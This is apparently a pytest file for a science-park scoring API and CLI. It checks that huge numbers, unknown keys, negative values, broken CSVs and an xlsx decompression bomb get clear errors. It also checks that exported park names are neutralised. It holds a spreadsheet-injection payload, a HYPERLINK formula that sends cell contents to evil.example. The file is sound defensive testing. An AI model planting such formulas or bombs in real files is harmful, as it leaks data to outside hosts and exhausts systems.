"""Park data that used to break things: huge numbers, unknown keys, impossible values, broken
files and formula-like text. Each gets a 4xx or a note that names the problem, never a 500."""

from __future__ import annotations

import csv
import tracemalloc
from fractions import Fraction

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from typer.testing import CliRunner

import bot.cli.scoring  # noqa: F401  (registers the commands)
import scoring
from bot.channels.api.scoring import router
from bot.cli.app import app as cli
from bot.server import _install_error_handlers
from scoring.importing import read_park_records
from scoring.quantities import parse_value, round_half_away
from tests.scoring.conftest import SAMPLE
from tests.support.bombs import xlsx_bomb


@pytest.fixture(scope="module")
def client(kit) -> TestClient:  # type: ignore[no-untyped-def]
    app = FastAPI()
    app.include_router(router)
    _install_error_handlers(app)
    app.state.scoring_kit = kit
    return TestClient(app, raise_server_exceptions=False)


def _cohort(**indicators: object) -> dict[str, object]:
    return {"parks": [{"park_id": "a", "year": 2020, "indicators": indicators},
                      {"park_id": "b", "year": 2020, "indicators": {"1.3": 5}}]}


def _error(resp) -> tuple[int, str, str]:  # type: ignore[no-untyped-def]
    body = resp.json()["error"]
    return resp.status_code, body["code"], body["message"]


# -- numbers of any size ------------------------------------------------------------------------


@pytest.mark.parametrize("raw", [1e22, 10**30, "1e999999999", "-1e40", "12345678901234567890"])
def test_values_too_large_to_score_exactly_are_refused_naming_the_field(client, raw) -> None:  # type: ignore[no-untyped-def]
    status, code, message = _error(client.post("/api/score", json=_cohort(**{"1.3": raw})))
    assert (status, code) == (400, "bad_park_data")
    assert "1.3" in message and "too large" in message and "10^18" in message


def test_too_many_decimal_places_is_refused_not_computed(client) -> None:  # type: ignore[no-untyped-def]
    status, _, message = _error(client.post("/api/score", json=_cohort(**{"2.2": "1e-999999999"})))
    assert status == 400 and "2.2" in message and "decimal places" in message


@pytest.mark.parametrize("raw", [1e22, "1e999999999"])
def test_eligibility_refuses_huge_values_naming_the_fact(client, raw) -> None:  # type: ignore[no-untyped-def]
    resp = client.post("/api/eligibility", json={"category": "创新型科技园区", "park": {"national_rd_institutions": raw}})
    status, code, message = _error(resp)
    assert (status, code) == (400, "bad_value") and "国家级研发机构数" in message


def test_large_values_inside_the_range_are_scored_and_rounded_exactly() -> None:
    assert parse_value(10**17, "count", field="x") == 10**17
    big = Fraction(10**17) + Fraction(5, 1000)
    assert str(round_half_away(big)) == "100000000000000000.01"  # half away from zero, no float on the way
    assert str(round_half_away(-big)) == "-100000000000000000.01"


# -- unknown keys and impossible values -----------------------------------------------------------


def test_unknown_eligibility_key_is_named_in_the_notes_with_the_closest_known_one(client) -> None:  # type: ignore[no-untyped-def]
    body = client.post("/api/eligibility", json={"category": "创新型科技园区", "park": {"rd_intensty": 0.5}}).json()
    assert body["overall"] == "incomplete"
    assert any("'rd_intensty'" in n and "'rd_intensity'" in n for n in body["notes"]), body["notes"]


def test_known_keys_of_every_kind_raise_no_note(client) -> None:  # type: ignore[no-untyped-def]
    park = {"park_id": "X", "year": 2020, "服务收入占营业收入比例": "40%", "employees": 1000,
            "masters_phd_employees": 100, "2.4": 0.4, "clusters": {"domestic_leading": 2}}
    body = client.post("/api/eligibility", json={"category": "创新型科技园区", "park": park}).json()
    assert body["notes"] == []


def test_negative_count_is_named_and_left_out_of_the_verdict(client) -> None:  # type: ignore[no-untyped-def]
    body = client.post("/api/eligibility", json={"category": "创新型科技园区",
                                                 "park": {"national_rd_institutions": -3}}).json()
    target = next(t for t in body["targets"] if t["id"] == "national_rd_institutions")
    assert target["met"] is None and "国家级研发机构数" in body["missing"]
    assert any("国家级研发机构数 = -3" in n and "不能为负" in n for n in body["notes"]), body["notes"]


def test_share_above_one_from_a_percentage_or_a_formula_is_flagged(client) -> None:  # type: ignore[no-untyped-def]
    given = client.post("/api/eligibility", json={"category": "创新型科技园区",
                                                  "park": {"masters_phd_share": "150%"}}).json()
    derived = client.post("/api/eligibility", json={"category": "创新型科技园区",
                                                    "park": {"masters_phd_employees": 300, "employees": 100}}).json()
    for body in (given, derived):
        target = next(t for t in body["targets"] if t["id"] == "masters_phd_share")
        assert target["met"] is None
        assert any("从业人员中硕士和博士占比" in n and "0–1" in n for n in body["notes"]), body["notes"]
    assert any("masters_phd_employees / employees" in n for n in derived["notes"])


@pytest.mark.parametrize(
    ("park", "named"),
    [
        ({"year": "abc"}, "year"),
        ({"year": 1e22}, "year"),
        ({"enterprise_counts_above_yi": {"abc": 1}}, "enterprise_counts_above_yi"),
        ({"clusters": 5}, "clusters"),
    ],
)
def test_malformed_eligibility_inputs_are_400_naming_the_key(client, park, named) -> None:  # type: ignore[no-untyped-def]
    status, _, message = _error(client.post("/api/eligibility", json={"category": "创新型科技园区", "park": park}))
    assert status == 400 and named in message


def test_unknown_facts_key_in_score_input_is_refused_naming_it(client) -> None:  # type: ignore[no-untyped-def]
    parks = [{"park_id": "a", "year": 2020, "indicators": {"1.3": 5}, "facts": {"clusters_internationl": 2}}]
    status, code, message = _error(client.post("/api/score", json={"parks": parks}))
    assert (status, code) == (400, "unknown_key") and "'clusters_internationl'" in message and "'a'" in message


def test_negative_base_count_is_flagged_on_the_card(client) -> None:  # type: ignore[no-untyped-def]
    parks = [{"park_id": "a", "year": 2020, "base": {"employees": -100}}]
    card = client.post("/api/score", json={"parks": parks}).json()["cards"][0]
    flag = next(f for f in card["flags"] if f["field"] == "employees")
    assert flag["code"] == "out_of_range" and "negative" in flag["message"]


# -- broken files -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "the file is empty"),
        ("# SYNTHETIC comment only\n\n", "the file is empty"),
        ("park_id,name,year\nP1,甲,2020,extra,cells\n", "row 2, column D"),
        ("park_id,name,year\n", "no data rows"),
    ],
)
def test_empty_or_ragged_csv_is_a_clear_error(tmp_path, registry, text, expected) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "parks.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(scoring.ParkDataError) as err:
        read_park_records(path, registry)
    assert expected in str(err.value)


def test_trailing_empty_cells_do_not_shift_the_values(tmp_path, registry) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "parks.csv"
    path.write_text("park_id,name,year,1.3\nP1,甲,2020,7,,\nP2,乙,2020,9\n", encoding="utf-8")
    records, _ = read_park_records(path, registry)
    assert [(r.park_id, r.name, r.indicators) for r in records] == [("P1", "甲", {"1.3": "7"}), ("P2", "乙", {"1.3": "9"})]


def test_cli_reports_a_broken_file_without_a_traceback(tmp_path) -> None:  # type: ignore[no-untyped-def]
    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    result = CliRunner().invoke(cli, ["score", "--data", str(empty)])
    assert result.exit_code == 2 and "the file is empty" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_workbook_bomb_is_refused_before_openpyxl_reads_it(tmp_path, registry) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "parks.xlsx"
    path.write_bytes(xlsx_bomb(1024))  # about 1 MB that inflates to 1 GiB
    tracemalloc.start()
    try:
        with pytest.raises(scoring.InputError, match="unpacks to more than"):
            read_park_records(path, registry)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20, f"{peak / 2**20:.1f} MiB"


# -- exports that are safe to open --------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _evil_cohort(tmp_path):  # type: ignore[no-untyped-def]
    lines = SAMPLE.read_text(encoding="utf-8").splitlines()
    names = ["星澜科学城高新区（虚构）", "璟川创新谷高新区（虚构）", "沅汀智造城高新区（虚构）"]
    for line_no, (name, evil) in enumerate(zip(names, [EVIL, "+1+2", "@SUM(1)"], strict=True), start=2):
        lines[line_no] = lines[line_no].replace(name, '"' + evil.replace('"', '""') + '"')
    path = tmp_path / "parks.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_formula_like_park_names_are_text_in_the_workbook(tmp_path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "scores.xlsx"
    result = CliRunner().invoke(cli, ["score", "--data", str(_evil_cohort(tmp_path)), "--out", str(out)])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["得分与排名"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value in (EVIL, "+1+2", "@SUM(1)")}
    assert set(cells) == {EVIL, "+1+2", "@SUM(1)"}
    for cell in cells.values():
        assert cell.data_type == "s" and cell.quotePrefix  # a string, shown as typed: never a live formula


def test_formula_like_park_names_are_quoted_in_the_csv(tmp_path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "scores.csv"
    result = CliRunner().invoke(cli, ["score", "--data", str(_evil_cohort(tmp_path)), "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()[1:]))
    names = {row[1] for row in rows[1:]}
    assert {"'" + EVIL, "'+1+2", "'@SUM(1)"} <= names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    assert "SYNTHETIC" in out.read_text(encoding="utf-8-sig").splitlines()[0]
